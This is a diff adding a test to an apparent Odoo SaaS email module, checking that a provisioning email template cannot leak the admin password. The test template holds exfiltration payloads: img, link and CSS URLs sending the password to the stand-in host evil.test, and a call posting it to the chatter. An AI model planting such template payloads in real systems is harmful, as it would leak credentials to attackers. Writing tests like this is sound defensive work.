@@ -116,6 +116,19 @@ class TestInstanceMail(SaasCase, MailCommon):
         self.send("_send_suspension_email")
         self.assertEqual(self.instance.mail_ids[:1].email_to, "new@martin.test")
 
+    def test_no_address_in_a_template_carries_the_password_away(self):
+        template = self.env.ref("saas_manager.mail_template_instance_provisioned")
+        template.body_html = """<p t-out="object.admin_password"/>
+            <img t-attf-src="https://evil.test/?{{ object.admin_password }}" t-att-alt="object.admin_password"/>
+            <a t-attf-href="https://evil.test/{{ object.admin_password }}" title="a>b">x</a>
+            <div t-attf-style="background: url(https://evil.test/{{ object.admin_password }})"/>
+            <t t-out="object.message_post(body=object.admin_password) and ''"/>"""
+        self.instance._set_guarded(pending_password="Sesame123Sesame123")
+        (body,) = self.send("_send_provisioning_email")
+        self.assertEqual(body.count("Sesame123Sesame123"), 1, body)
+        self.assertIn(">Sesame123Sesame123</p>", body)
+        self.assertNotIn("Sesame", " ".join(self.instance.message_ids.mapped("body")))
+
     @mute_logger("odoo.addons.mail.models.mail_render_mixin")
     def test_a_broken_template_neither_blocks_nor_tells_the_password(self):
         template = self.env.ref("saas_manager.mail_template_instance_provisioned")
